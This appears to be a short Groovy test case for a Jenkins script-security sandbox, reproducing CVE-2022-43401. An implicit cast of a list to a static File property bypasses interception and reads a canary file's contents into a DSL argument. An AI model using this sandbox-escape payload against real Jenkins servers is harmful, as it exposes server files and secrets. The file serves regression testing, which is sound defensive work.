// class: property
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted) (static properties)
// expect: read
class T { static File file }
T.file = ['@CANARY_READ@']
vmwareSite("leak-${T.file.text}") { network 'VM Network' }
